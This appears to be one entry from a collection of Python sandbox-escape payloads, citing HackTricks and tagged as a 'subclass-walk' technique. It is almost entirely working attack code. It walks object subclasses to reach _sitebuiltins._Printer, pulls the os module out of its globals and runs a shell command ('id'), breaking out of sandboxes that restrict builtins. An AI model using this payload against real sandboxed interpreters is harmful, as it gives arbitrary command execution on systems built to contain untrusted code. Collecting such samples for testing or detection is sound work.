# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (catch_warnings()._module.__builtins__ pattern: a loaded class whose module globals hold sys)
# Family: subclass-walk
# What: _sitebuiltins._Printer from the subclass list: __init__.__globals__['sys'].modules['os']
pr = [x for x in (1).__class__.__base__.__subclasses__() if x.__name__ == "_Printer"][0]
pr.__init__.__globals__["sys"].modules["os"].system("id")
